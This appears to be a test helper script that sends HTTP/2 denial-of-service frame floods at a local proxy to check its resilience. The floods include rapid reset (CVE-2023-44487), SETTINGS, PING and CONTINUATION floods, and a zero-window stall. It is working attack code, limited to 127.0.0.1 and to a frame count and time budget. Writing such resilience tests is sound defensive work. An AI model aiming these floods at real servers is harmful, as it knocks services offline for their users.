// An HTTP/2 attacker, run as its own process (so its work does not delay the proxy under test):
// writes raw frames on one h2c connection as fast as the socket takes them, and reports what the
// server answered. Bounded: it stops after `count` frames or `ms` milliseconds, and only ever
// connects to 127.0.0.1.
//   node test/helpers/h2-attack.ts <port> <mode> <count> [ms]
// modes: rapid-reset (HEADERS + RST_STREAM pairs, CVE-2023-44487; rapid-reset-paced: a few pairs
//        per write), settings-flood, ping-flood,
//        continuation-flood (HEADERS without END_HEADERS then endless CONTINUATION),
//        window-zero (SETTINGS_INITIAL_WINDOW_SIZE=0 then requests it never reads)
import net from "node:net";

const [portArg, mode = "rapid-reset", countArg = "4000", msArg = "5000"] = process.argv.slice(2);
const port = Number(portArg);
const count = Number(countArg);
const deadline = Date.now() + Number(msArg);

function frame(type: number, flags: number, stream: number, payload: Buffer): Buffer {
  const h = Buffer.alloc(9);
  h.writeUIntBE(payload.length, 0, 3);
  h[3] = type;
  h[4] = flags;
  h.writeUInt32BE(stream & 0x7fffffff, 5);
  return Buffer.concat([h, payload]);
}

// :method GET, :scheme http, :path /, :authority x (HPACK: three indexed, one literal)
const HEADERS_BLOCK = Buffer.from([0x82, 0x86, 0x84, 0x41, 0x01, 0x78]);
const PREFACE = Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n");
const rst = (id: number) => frame(3, 0, id, Buffer.from([0, 0, 0, 8]));

const seen = {
  goaway: null as number | null,
  frames: {} as Record<string, number>,
  closed: false,
  sent: 0,
  ms: 0,
};
const t0 = Date.now();
const s = net.connect(port, "127.0.0.1");
s.on("error", () => {});
let buf = Buffer.alloc(0);
s.on("data", (d: Buffer) => {
  buf = Buffer.concat([buf, d]);
  while (buf.length >= 9) {
    const len = buf.readUIntBE(0, 3);
    if (buf.length < 9 + len) break;
    const type = buf[3]!;
    seen.frames[type] = (seen.frames[type] ?? 0) + 1;
    if (type === 7 && seen.goaway === null) seen.goaway = buf.readUInt32BE(9 + 4);
    buf = buf.subarray(9 + len);
  }
});
const finish = () => {
  seen.closed = true;
  seen.ms = Date.now() - t0;
  process.stdout.write(`${JSON.stringify(seen)}\n`);
  process.exit(0);
};
s.on("close", finish);
s.on("connect", () => {
  const settings = mode === "window-zero" ? Buffer.from([0, 4, 0, 0, 0, 0]) : Buffer.alloc(0);
  s.write(Buffer.concat([PREFACE, frame(4, 0, 0, settings)]));
  let id = 1;
  const pump = () => {
    while (seen.sent < count && Date.now() < deadline && !s.destroyed) {
      let chunk: Buffer;
      switch (mode) {
        case "settings-flood":
          chunk = frame(4, 0, 0, Buffer.alloc(0));
          break;
        case "ping-flood":
          chunk = frame(6, 0, 0, Buffer.alloc(8));
          break;
        case "continuation-flood":
          chunk =
            seen.sent === 0
              ? frame(1, 0x1, 1, HEADERS_BLOCK)
              : frame(9, 0, 1, Buffer.from([0x40, 0x01, 0x61, 0x01, 0x62]));
          break;
        case "window-zero":
          chunk = frame(1, 0x5, id, HEADERS_BLOCK);
          id += 2;
          break;
        default:
          chunk = Buffer.concat([frame(1, 0x5, id, HEADERS_BLOCK), rst(id)]);
          id += 2;
      }
      seen.sent++;
      if (!s.write(chunk)) {
        s.once("drain", pump);
        return;
      }
      // paced: a few pairs per TCP write, so the server handles each HEADERS before its reset
      if (mode === "rapid-reset-paced" && seen.sent % 4 === 0) {
        setImmediate(pump);
        return;
      }
    }
    // keep the connection open a little to collect the server's answer, then stop
    setTimeout(() => {
      s.destroy();
    }, 300);
  };
  pump();
});
setTimeout(() => s.destroy(), Number(msArg) + 1000).unref();
